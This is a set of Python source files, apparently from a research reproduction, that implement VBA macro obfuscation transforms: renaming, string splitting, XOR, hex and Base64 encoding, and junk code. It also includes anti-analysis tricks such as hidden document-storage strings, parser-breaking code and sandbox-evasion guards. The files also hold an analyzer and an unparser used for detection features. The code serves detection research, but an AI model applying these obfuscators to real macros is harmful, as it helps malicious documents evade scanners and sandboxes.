    name = helpers.get(("xor", key), lambda n: _xor_decoder(n, key))
    numbers = ", ".join(str(ord(ch) ^ key) for ch in value)
    return wrap_vba_expression(f"{name}(Array({numbers}))")


def _xor_decoder(name: str, key: int) -> str:
    writer = CodeWriter()
    with writer.block(f"Function {name}(src As Variant) As String", "End Function"):
        writer.line("Dim idx As Long")
        writer.line("Dim acc As String")
        writer.line('acc = ""')
        with writer.block("For idx = LBound(src) To UBound(src)", "Next idx"):
            writer.line(f"acc = acc & Chr(src(idx) Xor {key})")
        writer.line(f"{name} = acc")
    return writer.render()


def _encode_hex(
    value: str, context: ObfuscationContext, helpers: _HelperRegistry
) -> str:
    name = helpers.get(("hex",), _hex_decoder)
    encoded = "".join(f"{ord(ch):02X}" for ch in value)
    return wrap_vba_expression(f"{name}({_chunked_literal(encoded)})")


def _hex_decoder(name: str) -> str:
    writer = CodeWriter()
    with writer.block(f"Function {name}(src As String) As String", "End Function"):
        writer.line("Dim idx As Long")
        writer.line("Dim acc As String")
        writer.line('acc = ""')
        with writer.block("For idx = 1 To Len(src) Step 2", "Next idx"):
            writer.line('acc = acc & Chr(Val("&H" & Mid(src, idx, 2)))')
        writer.line(f"{name} = acc")
    return writer.render()


def _encode_base64(
    value: str, context: ObfuscationContext, helpers: _HelperRegistry
) -> str:
    name = helpers.get(("base64",), _base64_decoder)
    encoded = base64.b64encode(value.encode("latin-1")).decode("ascii")
    return wrap_vba_expression(f"{name}({_chunked_literal(encoded)})")


def _base64_decoder(name: str) -> str:
    """A pure-VBA Base64 decoder, the classic table-driven loop."""
    writer = CodeWriter()
    with writer.block(f"Function {name}(src As String) As String", "End Function"):
        writer.line("Dim table As String")
        writer.line(f'table = "{_B64_ALPHABET}"')
        writer.line("Dim idx As Long")
        writer.line("Dim buffer As Long")
        writer.line("Dim bits As Long")
        writer.line("Dim acc As String")
        writer.line("Dim symbol As String")
        writer.line("Dim code As Long")
        writer.line('acc = ""')
        writer.line("buffer = 0")
        writer.line("bits = 0")
        with writer.block("For idx = 1 To Len(src)", "Next idx"):
            writer.line("symbol = Mid(src, idx, 1)")
            with writer.block('If symbol <> "=" Then', "End If"):
                writer.line("code = InStr(table, symbol) - 1")
                with writer.block("If code >= 0 Then", "End If"):
                    writer.line("buffer = buffer * 64 + code")
                    writer.line("bits = bits + 6")
                    with writer.block("If bits >= 8 Then", "End If"):
                        writer.line("bits = bits - 8")
                        writer.line("acc = acc & Chr((buffer \\ (2 ^ bits)) Mod 256)")
        writer.line(f"{name} = acc")
    return writer.render()
