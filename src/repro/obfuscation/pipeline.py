"""Composition of obfuscation transforms into reusable profiles.

An :class:`ObfuscationPipeline` chains transforms in a fixed order; a
:class:`ObfuscationProfile` additionally fixes the transform parameters, so
that repeated applications to different macros produce a *family* of
variants — which is exactly what produces Fig. 5(b)'s code-length clusters.
"""

from __future__ import annotations

import random
from dataclasses import dataclass, field

from repro.obfuscation.antianalysis import (
    BrokenCodeInserter,
    FlowChanger,
    StringHider,
)
from repro.obfuscation.base import ObfuscationContext, Obfuscator, make_context
from repro.obfuscation.encode import StringEncoder
from repro.obfuscation.logic import (
    DummyCodeInserter,
    ProcedureReorderer,
    SizePadder,
)
from repro.obfuscation.rename import RandomRenamer
from repro.obfuscation.split import DummyStringInserter, StringSplitter


@dataclass
class ObfuscationResult:
    """Output of one pipeline run."""

    source: str
    document_variables: dict[str, str] = field(default_factory=dict)
    applied: tuple[str, ...] = ()


class ObfuscationPipeline:
    """Apply a sequence of obfuscators with one shared seeded context."""

    def __init__(self, obfuscators: list[Obfuscator]) -> None:
        if not obfuscators:
            raise ValueError("pipeline needs at least one obfuscator")
        self._obfuscators = list(obfuscators)

    @property
    def categories(self) -> tuple[str, ...]:
        return tuple(o.category for o in self._obfuscators)

    def run(self, source: str, seed: int) -> ObfuscationResult:
        context = make_context(seed)
        return self.run_with_context(source, context)

    def run_with_context(
        self, source: str, context: ObfuscationContext
    ) -> ObfuscationResult:
        current = source
        for obfuscator in self._obfuscators:
            current = obfuscator.apply(current, context)
        return ObfuscationResult(
            source=current,
            document_variables=dict(context.document_variables),
            applied=self.categories,
        )


def build_profile(
    rng: random.Random,
    *,
    use_rename: bool = True,
    use_split: bool = True,
    use_encode: bool = True,
    use_logic: bool = True,
    use_anti: bool = False,
    target_length: int | None = None,
) -> ObfuscationPipeline:
    """Build a randomized-but-fixed obfuscation profile.

    The ``rng`` draws the *profile parameters*; the pipeline later draws the
    *per-macro randomness* from its run context.  Profiles with a
    ``target_length`` emulate one obfuscation-tool configuration and yield
    the length clustering of Fig. 5(b).
    """
    obfuscators: list[Obfuscator] = []
    if use_anti and rng.random() < 0.5:
        obfuscators.append(StringHider(hide_probability=rng.uniform(0.2, 0.5)))
    if use_split:
        obfuscators.append(
            StringSplitter(
                min_length=rng.choice((4, 5, 6)),
                chunk_min=1,
                chunk_max=rng.choice((3, 4, 5)),
                hoist_const_probability=rng.uniform(0.0, 0.4),
            )
        )
        if rng.random() < 0.6:
            obfuscators.append(DummyStringInserter())
    if use_encode:
        strategy_count = rng.randint(2, 6)
        from repro.obfuscation.encode import STRATEGIES

        strategies = tuple(rng.sample(STRATEGIES, strategy_count))
        obfuscators.append(
            StringEncoder(
                min_length=rng.choice((4, 6, 8)),
                strategies=strategies,
                encode_probability=rng.uniform(0.6, 1.0),
            )
        )
    if use_rename:
        obfuscators.append(RandomRenamer())
    if use_logic:
        obfuscators.append(DummyCodeInserter(blocks_min=1, blocks_max=3))
        if rng.random() < 0.5:
            obfuscators.append(ProcedureReorderer())
        if target_length is not None:
            obfuscators.append(SizePadder(target_length))
    if use_anti:
        if rng.random() < 0.5:
            obfuscators.append(BrokenCodeInserter())
        if rng.random() < 0.4:
            obfuscators.append(FlowChanger())
    if not obfuscators:
        obfuscators.append(RandomRenamer())
    return ObfuscationPipeline(obfuscators)


def default_pipeline() -> ObfuscationPipeline:
    """The all-four-categories pipeline with default parameters."""
    return ObfuscationPipeline(
        [
            StringSplitter(),
            StringEncoder(),
            RandomRenamer(),
            DummyCodeInserter(),
        ]
    )
