"""O1 — Random obfuscation: randomize identifiers (Table I, Fig. 2).

Every *declared* identifier in the module — procedure names, parameters,
``Dim``/``Const``/``For`` variables — is renamed to a random string.  Member
accesses (``object.Value``) and undeclared names (host-application objects,
built-in functions) are left untouched, so the transformed macro still binds
against the host object model.

The transform rebuilds the source from the token stream, so strings and
comments are never corrupted by the renaming.
"""

from __future__ import annotations

from repro.obfuscation.base import ObfuscationContext
from repro.vba.analyzer import analyze
from repro.vba.tokens import TokenKind


class RandomRenamer:
    """Rename declared identifiers to random meaningless strings."""

    category = "O1"

    def __init__(self, rename_fraction: float = 1.0) -> None:
        if not 0.0 <= rename_fraction <= 1.0:
            raise ValueError("rename_fraction must be within [0, 1]")
        self._fraction = rename_fraction

    def apply(self, source: str, context: ObfuscationContext) -> str:
        analysis = analyze(source)
        targets = list(analysis.declared_identifiers)
        if not targets:
            return source
        if self._fraction < 1.0:
            count = max(1, round(len(targets) * self._fraction))
            targets = context.rng.sample(targets, count)

        mapping = {
            name.lower(): context.fresh_name() for name in targets
        }
        return rename_identifiers(source, mapping)


def rename_identifiers(source: str, mapping: dict[str, str]) -> str:
    """Apply a lower-cased-name → new-name mapping across the token stream.

    Identifiers reached through member access (preceded by ``.``) are never
    renamed; everything else matching the mapping (case-insensitively) is.
    """
    analysis = analyze(source)
    tokens = analysis.tokens
    parts: list[str] = []
    for index, token in enumerate(tokens):
        if token.kind is TokenKind.IDENTIFIER:
            prev = _previous_significant(tokens, index)
            is_member = (
                prev is not None
                and prev.kind is TokenKind.PUNCT
                and prev.text == "."
            )
            replacement = mapping.get(token.text.lower())
            if replacement is not None and not is_member:
                parts.append(replacement)
                continue
        parts.append(token.text)
    return "".join(parts)


def _previous_significant(tokens, index: int):
    for back in range(index - 1, -1, -1):
        if tokens[back].kind not in (
            TokenKind.WHITESPACE,
            TokenKind.LINE_CONTINUATION,
        ):
            return tokens[back]
    return None
