"""Anti-analysis techniques from §VI.B of the paper.

These tricks are *not* counted as O1–O4 obfuscation, but the paper observes
they "tend to be found together in obfuscated VBA macros", so the corpus
generator mixes them into obfuscated samples:

1. **Hiding string data** — move a string literal out of the macro body into
   a document storage location (document variable / control caption) and read
   it back at runtime (Fig. 8(a)).  The moved values are recorded in
   ``context.document_variables`` so the synthetic document container can
   carry them.
2. **Inserting broken code** — append syntactically broken statements after
   an ``Exit Sub``, never reached at runtime but fatal to naive parsers
   (Fig. 8(b)).
3. **Changing the flow** — wrap the payload in an environment check
   (sandbox-evasion style conditional).
"""

from __future__ import annotations

import re

from repro.obfuscation.base import ObfuscationContext
from repro.vba.analyzer import analyze
from repro.vba.tokens import TokenKind

_SUB_BODY_PATTERN = re.compile(
    r"(Sub\s+\w+\s*\([^)]*\)\s*\n)(.*?)(End Sub)", re.DOTALL | re.IGNORECASE
)

#: Document storage expressions a macro can read hidden strings from,
#: mirroring Fig. 8(a) and the [MS-OFORMS] locations the paper lists.
#: ``{name}`` is a fresh random name; ``{index}`` a unique control index, so
#: every hidden string gets its own storage slot.
_STORAGE_TEMPLATES = (
    'ActiveDocument.Variables("{name}").Value()',
    "UserForm1.Label{index}.Caption",
    "UserForm1.TextBox{index}.ControlTipText",
    'ActiveWorkbook.CustomDocumentProperties("{name}").Value',
)


class StringHider:
    """Hide selected string literals in document storage (Fig. 8(a)).

    Each hidden string is recorded in ``context.document_variables`` keyed by
    the exact storage *expression* the macro reads at runtime, so both the
    document container builder and the interpreter's ``host_values`` can
    resolve it.
    """

    category = "anti"

    def __init__(self, hide_probability: float = 0.4, min_length: int = 6) -> None:
        self._probability = hide_probability
        self._min_length = min_length

    def apply(self, source: str, context: ObfuscationContext) -> str:
        analysis = analyze(source)
        parts: list[str] = []
        control_index = 1
        for token in analysis.tokens:
            eligible = (
                token.kind is TokenKind.STRING
                and len(token.string_value) >= self._min_length
                and context.rng.random() < self._probability
            )
            if eligible:
                name = context.fresh_camel_name()
                template = context.rng.choice(_STORAGE_TEMPLATES)
                expression = template.format(name=name, index=control_index)
                control_index += 1
                context.document_variables[expression] = token.string_value
                parts.append(expression)
            else:
                parts.append(token.text)
        return "".join(parts)


class BrokenCodeInserter:
    """Append unreachable, syntactically broken code after ``Exit Sub``.

    Mirrors Fig. 8(b): the instruction pointer leaves the procedure before
    the broken statements (``Colu.mns(...)``) are reached, but a code parser
    that tries to resolve the dangling objects fails.
    """

    category = "anti"

    _BROKEN_SNIPPETS = (
        "    Rows.Select\n"
        "    'Broken code here\n"
        "    Selection.RowHeight = 15\n"
        '    Colu.mns("A:A").Delete\n'
        "    Next brk\n"
        '    Colu.mns("A").ColumnWidth = 25\n',
        "    Sel.ection.Interior.ColorIndex = 6\n"
        "    Loop\n"
        '    Wor.ksheets("Data").Activate\n'
        "    Ran.ge(Cells(1, 1), Cells(9, 9)).Merge\n",
        "    App.lication.ScreenUpdating = Fal.se\n"
        "    Wend\n"
        "    Act.iveSheet.PageSetup.Orientation = 2\n",
    )

    def apply(self, source: str, context: ObfuscationContext) -> str:
        snippet = context.rng.choice(self._BROKEN_SNIPPETS)

        def inject(match: re.Match) -> str:
            header, body, footer = match.groups()
            return f"{header}{body}    Exit Sub\n{snippet}{footer}"

        return _SUB_BODY_PATTERN.sub(inject, source, count=1)


class FlowChanger:
    """Wrap procedure bodies in a sandbox-evasion conditional (§VI.B.3)."""

    category = "anti"

    _GUARDS = (
        "If RecentFiles.Count > 2 Then",
        'If Environ("USERNAME") <> "sandbox" Then',
        "If Application.Windows.Count > 0 Then",
        "If Now() > #1/1/2015# Then",
    )

    def apply(self, source: str, context: ObfuscationContext) -> str:
        guard = context.rng.choice(self._GUARDS)

        def wrap(match: re.Match) -> str:
            header, body, footer = match.groups()
            indented = "".join(
                "    " + line + "\n" if line.strip() else "\n"
                for line in body.splitlines()
            )
            return f"{header}    {guard}\n{indented}    End If\n{footer}"

        return _SUB_BODY_PATTERN.sub(wrap, source, count=1)
