"""O2 — Split obfuscation: divide string data (Table I, Fig. 3).

String literals are cut into chunks and reassembled at runtime with the VBA
join operators ``&`` and ``+``.  Optionally, some chunks are hoisted into
module-level ``Public Const`` declarations, exactly as the paper's Fig. 3
example (``pzonda = "a"`` etc.) does.

The transform preserves semantics: evaluating the emitted concatenation
expression yields the original string (property-tested via
:func:`repro.obfuscation.evaluator.evaluate_string_expression`).
"""

from __future__ import annotations

from repro.obfuscation.base import ObfuscationContext
from repro.vba.analyzer import analyze
from repro.vba.tokens import TokenKind
from repro.vba.writer import quote_vba_string, wrap_vba_expression


class StringSplitter:
    """Split string literals into ``&``/``+`` joined chunks."""

    category = "O2"

    def __init__(
        self,
        min_length: int = 4,
        chunk_min: int = 1,
        chunk_max: int = 4,
        hoist_const_probability: float = 0.3,
    ) -> None:
        if chunk_min < 1 or chunk_max < chunk_min:
            raise ValueError("invalid chunk bounds")
        self._min_length = min_length
        self._chunk_min = chunk_min
        self._chunk_max = chunk_max
        self._hoist_probability = hoist_const_probability

    def apply(self, source: str, context: ObfuscationContext) -> str:
        analysis = analyze(source)
        consts: list[tuple[str, str]] = []
        parts: list[str] = []
        for token in analysis.tokens:
            if (
                token.kind is TokenKind.STRING
                and len(token.string_value) >= self._min_length
            ):
                parts.append(self._split_literal(token.string_value, context, consts))
            else:
                parts.append(token.text)
        body = "".join(parts)
        if not consts:
            return body
        header = "".join(
            f"Public Const {name} = {quote_vba_string(value)}\n"
            for name, value in consts
        )
        return header + body

    def _split_literal(
        self,
        value: str,
        context: ObfuscationContext,
        consts: list[tuple[str, str]],
    ) -> str:
        rng = context.rng
        chunks: list[str] = []
        position = 0
        while position < len(value):
            size = rng.randint(self._chunk_min, self._chunk_max)
            chunks.append(value[position : position + size])
            position += size
        rendered: list[str] = []
        for chunk in chunks:
            if (
                len(chunk) <= 2
                and rng.random() < self._hoist_probability
            ):
                name = context.fresh_name(6, 10)
                consts.append((name, chunk))
                rendered.append(name)
            else:
                rendered.append(quote_vba_string(chunk))
        operator = "&" if rng.random() < 0.7 else "+"
        # Real obfuscators are sloppy about spacing; varying it keeps
        # whitespace-share statistics from tagging the output.  A tight
        # joiner is only legal between two quoted literals: directly after an
        # identifier, ``&`` would lex as a Long type suffix instead.
        tight = rng.random() < 0.5
        pieces: list[str] = []
        for piece in rendered:
            if not pieces:
                pieces.append(piece)
                continue
            safe_tight = tight and pieces[-1].endswith('"') and piece.startswith('"')
            pieces.append((operator if safe_tight else f" {operator} ") + piece)
        expression = "".join(pieces)
        if len(rendered) > 1:
            return wrap_vba_expression(f"({expression})")
        return expression


class DummyStringInserter:
    """Insert unused dummy string variables, a secondary O2 trait.

    The paper notes split-obfuscated macros "contain many unused dummy
    strings"; this transform adds them so feature V6/V7 see the same signal.
    """

    category = "O2"

    def __init__(self, count_min: int = 2, count_max: int = 8) -> None:
        self._count_min = count_min
        self._count_max = count_max

    def apply(self, source: str, context: ObfuscationContext) -> str:
        rng = context.rng
        count = rng.randint(self._count_min, self._count_max)
        declarations = []
        for _ in range(count):
            name = context.fresh_name(6, 12)
            junk = "".join(
                rng.choice("abcdefghijklmnopqrstuvwxyz0123456789")
                for _ in range(rng.randint(8, 40))
            )
            declarations.append(
                f'Private Const {name} As String = "{junk}"\n'
            )
        return "".join(declarations) + source


def split_expression_chunks(expression: str) -> list[str]:
    """Extract the string-literal chunks of a split expression, in order.

    Test helper: the inverse check joins these and compares to the original
    value (const-hoisted chunks are resolved by the evaluator module instead).
    """
    chunks: list[str] = []
    for token in analyze(expression).tokens:
        if token.kind is TokenKind.STRING:
            chunks.append(token.string_value)
    return chunks
