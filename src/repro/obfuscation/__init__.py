"""The paper's obfuscation taxonomy (Table I) as working VBA transforms.

O1 random (:mod:`.rename`), O2 split (:mod:`.split`), O3 encoding
(:mod:`.encode`), O4 logic (:mod:`.logic`), plus the §VI.B anti-analysis
tricks (:mod:`.antianalysis`) and composition (:mod:`.pipeline`).
"""

from repro.obfuscation.antianalysis import (
    BrokenCodeInserter,
    FlowChanger,
    StringHider,
)
from repro.obfuscation.base import ObfuscationContext, Obfuscator, make_context
from repro.obfuscation.encode import STRATEGIES, StringEncoder
from repro.obfuscation.logic import (
    DummyCodeInserter,
    ProcedureReorderer,
    SizePadder,
    generate_junk_procedure,
)
from repro.obfuscation.pipeline import (
    ObfuscationPipeline,
    ObfuscationResult,
    build_profile,
    default_pipeline,
)
from repro.obfuscation.rename import RandomRenamer, rename_identifiers
from repro.obfuscation.split import DummyStringInserter, StringSplitter

__all__ = [
    "STRATEGIES",
    "BrokenCodeInserter",
    "DummyCodeInserter",
    "DummyStringInserter",
    "FlowChanger",
    "ObfuscationContext",
    "ObfuscationPipeline",
    "ObfuscationResult",
    "Obfuscator",
    "ProcedureReorderer",
    "RandomRenamer",
    "SizePadder",
    "StringEncoder",
    "StringHider",
    "StringSplitter",
    "build_profile",
    "default_pipeline",
    "generate_junk_procedure",
    "make_context",
    "rename_identifiers",
]
