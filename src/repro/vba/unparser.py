"""Render the VBA subset AST back to source text.

The inverse of :mod:`repro.vba.parser` for the executable subset; used by
the de-obfuscation engine to emit simplified modules.  The renderer is
normalizing (4-space indents, one statement per line), so
``unparse(parse(unparse(parse(x))))`` is a fixpoint — property-tested.
"""

from __future__ import annotations

from repro.vba import ast_nodes as ast

_INDENT = "    "

#: Operators whose keyword spelling differs from their token text.
_KEYWORD_OPS = {
    "and": "And", "or": "Or", "xor": "Xor", "mod": "Mod",
    "imp": "Imp", "eqv": "Eqv", "like": "Like", "is": "Is",
}

# Binding strength per operator, mirroring the parser's precedence ladder.
_PRECEDENCE = {
    "imp": 1, "eqv": 1,
    "or": 2, "xor": 2,
    "and": 3,
    "=": 5, "<>": 5, "<": 5, ">": 5, "<=": 5, ">=": 5, "like": 5, "is": 5,
    "&": 6,
    "+": 7, "-": 7,
    "mod": 8,
    "\\": 9,
    "*": 10, "/": 10,
    "^": 12,
}


def unparse_module(module: ast.Module) -> str:
    """Render a whole module: module-level statements then procedures."""
    blocks: list[str] = []
    for statement in module.module_statements:
        blocks.append(unparse_statement(statement, 0))
    for procedure in module.procedures.values():
        blocks.append(unparse_procedure(procedure))
    return "\n".join(blocks) + ("\n" if blocks else "")


def unparse_procedure(procedure: ast.Procedure) -> str:
    keyword = "Sub" if procedure.kind == "sub" else "Function"
    params = ", ".join(procedure.params)
    lines = [f"{keyword} {procedure.name}({params})"]
    for statement in procedure.body:
        lines.append(unparse_statement(statement, 1))
    lines.append(f"End {keyword}")
    return "\n".join(lines)


def unparse_statement(statement: ast.Statement, depth: int) -> str:
    pad = _INDENT * depth
    if isinstance(statement, ast.DimStmt):
        rendered = []
        for name, extent in statement.names:
            if extent is not None:
                rendered.append(f"{name}({unparse_expression(extent)})")
            else:
                rendered.append(name)
        return f"{pad}Dim " + ", ".join(rendered)
    if isinstance(statement, ast.ConstStmt):
        return f"{pad}Const {statement.name} = {unparse_expression(statement.value)}"
    if isinstance(statement, ast.Assign):
        target = unparse_expression(statement.target)
        return f"{pad}{target} = {unparse_expression(statement.value)}"
    if isinstance(statement, ast.IfStmt):
        lines = []
        for index, (condition, body) in enumerate(statement.branches):
            opener = "If" if index == 0 else "ElseIf"
            lines.append(f"{pad}{opener} {unparse_expression(condition)} Then")
            lines.extend(unparse_statement(inner, depth + 1) for inner in body)
        if statement.else_body:
            lines.append(f"{pad}Else")
            lines.extend(
                unparse_statement(inner, depth + 1) for inner in statement.else_body
            )
        lines.append(f"{pad}End If")
        return "\n".join(lines)
    if isinstance(statement, ast.ForStmt):
        header = (
            f"{pad}For {statement.var} = {unparse_expression(statement.start)} "
            f"To {unparse_expression(statement.end)}"
        )
        if statement.step is not None:
            header += f" Step {unparse_expression(statement.step)}"
        lines = [header]
        lines.extend(unparse_statement(inner, depth + 1) for inner in statement.body)
        lines.append(f"{pad}Next {statement.var}")
        return "\n".join(lines)
    if isinstance(statement, ast.ForEachStmt):
        lines = [
            f"{pad}For Each {statement.var} In "
            f"{unparse_expression(statement.iterable)}"
        ]
        lines.extend(unparse_statement(inner, depth + 1) for inner in statement.body)
        lines.append(f"{pad}Next {statement.var}")
        return "\n".join(lines)
    if isinstance(statement, ast.DoLoopStmt):
        kind = "While" if statement.condition_kind == "while" else "Until"
        condition = unparse_expression(statement.condition)
        if statement.pre_test:
            lines = [f"{pad}Do {kind} {condition}"]
            lines.extend(
                unparse_statement(inner, depth + 1) for inner in statement.body
            )
            lines.append(f"{pad}Loop")
        else:
            lines = [f"{pad}Do"]
            lines.extend(
                unparse_statement(inner, depth + 1) for inner in statement.body
            )
            lines.append(f"{pad}Loop {kind} {condition}")
        return "\n".join(lines)
    if isinstance(statement, ast.WithStmt):
        lines = [f"{pad}With {unparse_expression(statement.subject)}"]
        lines.extend(unparse_statement(inner, depth + 1) for inner in statement.body)
        lines.append(f"{pad}End With")
        return "\n".join(lines)
    if isinstance(statement, ast.ExitStmt):
        return f"{pad}Exit {statement.kind.capitalize()}"
    if isinstance(statement, ast.CallStmt):
        call = statement.call
        if isinstance(call, ast.Call) and call.args:
            args = ", ".join(unparse_expression(a) for a in call.args)
            return f"{pad}{call.name} {args}"
        return f"{pad}{unparse_expression(call)}"
    if isinstance(statement, ast.NoOpStmt):
        # The parser preserves the skipped statement's token text verbatim.
        return f"{pad}{statement.text}"
    raise TypeError(f"cannot unparse {type(statement).__name__}")


def unparse_expression(expression: ast.Expression, parent_bind: int = 0) -> str:
    if isinstance(expression, ast.Literal):
        return _render_literal(expression.value)
    if isinstance(expression, ast.Name):
        return expression.name
    if isinstance(expression, ast.Call):
        args = ", ".join(unparse_expression(a) for a in expression.args)
        return f"{expression.name}({args})"
    if isinstance(expression, ast.MemberAccess):
        base = unparse_expression(expression.base)
        rendered = f"{base}.{expression.member}"
        if expression.args is not None:
            args = ", ".join(unparse_expression(a) for a in expression.args)
            rendered += f"({args})"
        return rendered
    if isinstance(expression, ast.BinOp):
        bind = _PRECEDENCE.get(expression.op, 5)
        op = _KEYWORD_OPS.get(expression.op, expression.op)
        left = unparse_expression(expression.left, bind)
        # Right side binds one tighter for left-associative chains.
        right = unparse_expression(expression.right, bind + 1)
        rendered = f"{left} {op} {right}"
        if bind < parent_bind:
            return f"({rendered})"
        return rendered
    if isinstance(expression, ast.UnaryOp):
        operand = unparse_expression(expression.operand, 11)
        if expression.op == "-":
            return f"-{operand}"
        return f"Not {operand}"
    raise TypeError(f"cannot unparse {type(expression).__name__}")


def _render_literal(value: object) -> str:
    if isinstance(value, bool):
        return "True" if value else "False"
    if isinstance(value, str):
        return '"' + value.replace('"', '""') + '"'
    if value is None:
        return "Empty"
    if isinstance(value, float):
        rendered = repr(value)
        return rendered
    return str(value)
