"""Structural analysis of VBA macro source code.

:class:`MacroAnalysis` is the single shared substrate for feature extraction
(:mod:`repro.features`) and for the obfuscation engine
(:mod:`repro.obfuscation`).  From one lexer pass it derives:

* declared identifiers — procedure names, parameters, ``Dim``/``Const``/
  ``ReDim``/``For Each`` variables — which is exactly the set O1 random
  obfuscation renames;
* call sites — names invoked with ``(...)``, via ``Call``, or in statement
  position — categorized against the built-in catalogs for V8–V12;
* string literals, comments, and the paper's notion of "words" (units
  delimited by whitespace and VBA symbols, following Likarish et al.).

On top of the structural analysis sits :class:`AnalysisSummary` — a small,
picklable, array-backed digest of everything the feature extractors need
(token-kind counts, word/string/identifier length arrays with exact integer
sums, a char-class histogram, Shannon entropy computed once).  It is built
in a single token walk plus one vectorized character pass, so feature
kernels never re-walk tokens or re-scan the source.  All of its reductions
are segment-local (per macro), which is what makes the batch feature
kernels row-deterministic: a macro's feature row is bit-identical whether
it is extracted alone or in a batch of thousands.
"""

from __future__ import annotations

import re
from dataclasses import dataclass, field

import numpy as np

from repro.vba.functions import (
    ALL_CATEGORIZED_FUNCTIONS,
    ARITHMETIC_FUNCTIONS,
    FINANCIAL_FUNCTIONS,
    RICH_FUNCTIONS,
    TEXT_FUNCTIONS,
    TYPE_CONVERSION_FUNCTIONS,
)
from repro.vba.lexer import tokenize
from repro.vba.tokens import STRING_CONCAT_OPERATORS, Token, TokenKind

# Keywords that introduce a procedure whose following identifier is the
# procedure name.
_PROCEDURE_KEYWORDS = frozenset({"sub", "function", "property"})

# Keywords that introduce variable declarations whose following identifiers
# (comma-separated, possibly with ``As Type`` clauses) are declared names.
_DECLARATION_KEYWORDS = frozenset({"dim", "const", "redim", "static"})

_WORD_PATTERN = re.compile(r"[A-Za-z0-9_$#@%!&]+")

#: J14's VBA adaptation (Section V.B of the paper): a line is "long" past
#: 150 characters instead of the JavaScript studies' 1000.
LONG_LINE_THRESHOLD = 150

#: Procedure bodies, split on Sub/Function boundaries (J18–J20).
_FUNCTION_BODY_PATTERN = re.compile(
    r"(?:^|\n)[ \t]*(?:Public\s+|Private\s+)?(?:Sub|Function)\s+\w+"
    r".*?\n(.*?)(?:^|\n)[ \t]*End (?:Sub|Function)",
    re.DOTALL | re.IGNORECASE,
)

#: The built-in call catalogs, in the fixed column order used by
#: :attr:`AnalysisSummary.catalog_hits` (and features V8–V12).
CATALOG_ORDER: tuple[frozenset[str], ...] = (
    TEXT_FUNCTIONS,
    ARITHMETIC_FUNCTIONS,
    TYPE_CONVERSION_FUNCTIONS,
    FINANCIAL_FUNCTIONS,
    RICH_FUNCTIONS,
)

_KIND_INDEX: dict[TokenKind, int] = {
    kind: index for index, kind in enumerate(TokenKind)
}

#: char-class histogram shape: one bin per ASCII codepoint plus a single
#: overflow bin for everything non-ASCII.
_HIST_BINS = 129
_HIST_OVERFLOW = 128

_VOWELS = frozenset("aeiouAEIOU")


@dataclass(slots=True)
class CallSite:
    """A function / procedure invocation found in the source."""

    name: str
    line: int
    is_member: bool  # invoked as ``object.Name(...)``


@dataclass(slots=True)
class MacroAnalysis:
    """The result of analyzing one VBA module's source code."""

    source: str
    tokens: list[Token] = field(default_factory=list)
    declared_identifiers: list[str] = field(default_factory=list)
    identifier_uses: list[str] = field(default_factory=list)
    call_sites: list[CallSite] = field(default_factory=list)
    string_literals: list[str] = field(default_factory=list)
    comments: list[str] = field(default_factory=list)
    procedure_names: list[str] = field(default_factory=list)
    #: lazily-built array-backed digest for the batch feature kernels
    summary: "AnalysisSummary | None" = field(default=None, compare=False)

    # ------------------------------------------------------------------
    # Derived text measures used by the feature extractors.

    @property
    def code_without_comments(self) -> str:
        """The source with comment token text removed (other text intact)."""
        parts = [
            token.text
            for token in self.tokens
            if token.kind is not TokenKind.COMMENT
        ]
        return "".join(parts)

    @property
    def comment_text(self) -> str:
        """All comment text concatenated (markers included)."""
        return "".join(
            token.text for token in self.tokens if token.kind is TokenKind.COMMENT
        )

    @property
    def words(self) -> list[str]:
        """The paper's 'words': maximal runs delimited by whitespace/symbols."""
        return _WORD_PATTERN.findall(self.source)

    @property
    def lines(self) -> list[str]:
        return self.source.splitlines()

    def operator_count(self, operators: frozenset[str]) -> int:
        """Count OPERATOR tokens whose text is in ``operators``."""
        return sum(
            1
            for token in self.tokens
            if token.kind is TokenKind.OPERATOR and token.text in operators
        )

    def called_builtin_fraction(self, catalog: frozenset[str]) -> float:
        """Fraction of call sites whose name is in ``catalog`` (lower-case)."""
        if not self.call_sites:
            return 0.0
        hits = sum(1 for call in self.call_sites if call.name.lower() in catalog)
        return hits / len(self.call_sites)

    def ensure_summary(self) -> "AnalysisSummary":
        """The cached :class:`AnalysisSummary`, built on first access."""
        if self.summary is None:
            self.summary = summarize(self)
        return self.summary


@dataclass(slots=True)
class AnalysisSummary:
    """Array-backed digest of one macro for the batch feature kernels.

    Everything here is plain numbers and small numpy arrays: the summary
    pickles cheaply, travels through process pools, and lets the V/J
    extractors compute whole feature columns in single vectorized passes
    without touching tokens again.  Integer sums (``*_sum``/``*_sqsum``)
    are exact in float64, so means and variances derived from them do not
    depend on batch composition.
    """

    # -- characters ----------------------------------------------------
    source_chars: int
    code_chars: int  # source minus comment-token text (the lexer is lossless)
    comment_chars: int
    whitespace_chars: int  # " \t\r\n"
    backslash_chars: int
    entropy: float  # Shannon entropy of the source, computed exactly once
    char_histogram: np.ndarray  # (129,) int64: ASCII bins + one overflow bin
    # -- line structure ------------------------------------------------
    line_count: int
    long_line_count: int  # lines beyond LONG_LINE_THRESHOLD chars
    line_lengths: np.ndarray
    # -- tokens ----------------------------------------------------------
    token_kind_counts: np.ndarray  # (len(TokenKind),) int64, TokenKind order
    comment_count: int
    # -- the paper's "words" -------------------------------------------
    word_count: int
    word_len_sum: int
    word_len_sqsum: int
    readable_word_count: int
    words_in_comment_count: int
    word_lengths: np.ndarray
    # -- string literals -----------------------------------------------
    string_count: int
    string_len_sum: int  # decoded literal lengths
    string_token_chars: int  # raw token text incl. quotes (V6/J16)
    string_op_count: int  # OPERATOR tokens in STRING_CONCAT_OPERATORS
    string_lengths: np.ndarray
    # -- declared identifiers ------------------------------------------
    identifier_count: int
    identifier_len_sum: int
    identifier_len_sqsum: int
    identifier_lengths: np.ndarray
    # -- call sites ----------------------------------------------------
    call_count: int
    member_call_count: int
    catalog_hits: np.ndarray  # (5,) int64 in CATALOG_ORDER
    argument_count: int
    argument_len_sum: int
    # -- procedure bodies ----------------------------------------------
    body_count: int
    body_total_chars: int


def analyze(source: str) -> MacroAnalysis:
    """Run the full structural analysis over one module's source code."""
    analysis = MacroAnalysis(source=source)
    analysis.tokens = tokenize(source)
    _collect(analysis)
    return analysis


def summarize(analysis: MacroAnalysis) -> AnalysisSummary:
    """Build the array-backed summary from one finished analysis.

    One walk over the token list, one vectorized pass over the characters,
    one regex pass for words and one for procedure bodies — after this the
    feature extractors never look at the analysis again.
    """
    source = analysis.source
    char_histogram, entropy = _char_stats(source)
    whitespace_chars = int(
        char_histogram[32] + char_histogram[9]
